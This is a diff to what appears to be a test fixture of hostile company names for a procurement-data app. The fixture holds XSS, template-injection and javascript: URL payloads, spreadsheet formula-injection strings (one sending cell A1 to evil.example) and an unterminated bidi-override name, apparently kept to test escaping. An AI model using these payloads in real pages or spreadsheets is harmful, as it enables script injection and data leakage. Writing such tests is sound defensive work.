@@ -114,7 +114,8 @@ const HOSTILE_TEXT = {
   img: '<img src=x onerror="window.__ocdsHostile=\'img\'">Constructora',
   template: '{{constructor.constructor("window.__ocdsHostile=1")()}} ${alert(1)}',
   url: 'javascript:window.__ocdsHostile=\'url\'',
-  bidi: '\u202EAS serotsoP\u202C \u2067Ltd\u2069',
+  // An override and an isolate left open: unrepaired, they would reverse the rest of any sentence quoting the name.
+  bidi: '\u202EAS serotsoP \u2067Ltd',
   formula: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
   plus: '+1+1 Servicios',
   minus: '-2+3 Servicios',
